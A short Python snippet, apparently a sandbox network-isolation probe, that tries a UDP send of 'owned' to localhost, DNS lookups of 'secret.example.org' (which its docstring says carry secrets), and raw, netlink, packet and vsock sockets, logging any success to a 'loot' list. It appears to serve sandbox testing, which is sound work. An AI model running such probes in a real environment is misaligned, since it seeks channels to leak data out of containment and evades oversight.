"""Sends datagrams, and asks for the addresses of names, which carry secrets as well."""

import socket

for way in (
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"owned", ("127.0.0.1", PORT)),
    lambda: socket.getaddrinfo("secret.example.org", 80),
    lambda: socket.gethostbyname("secret.example.org"),
    lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW),
    lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
    lambda: socket.socket(socket.AF_VSOCK),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1),
):
    try:
        way()
        loot.append("found: a network")
    except (OSError, AttributeError):
        pass
